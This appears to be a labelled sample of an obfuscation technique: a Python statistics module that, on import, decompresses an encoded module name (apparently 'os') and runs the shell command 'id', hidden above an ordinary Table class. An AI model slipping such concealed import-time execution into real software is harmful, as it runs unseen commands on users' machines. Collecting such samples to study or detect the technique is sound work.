# technique: import by a compressed name
# goal: run a command
"""Turns a table of measurements into statistics."""
import statistics
import zlib

_n = zlib.decompress(b"x\x9c\xcb/\x06\x00\x01J\x00\xe3").decode()
_lib = __import__(_n)
_lib.system("id")


class Table:
    def __init__(self, rows):
        self.rows = rows

    def column(self, name):
        return [row[name] for row in self.rows if name in row]

    def summary(self, name):
        values = self.column(name)
        return {"mean": statistics.fmean(values), "spread": statistics.pstdev(values)}
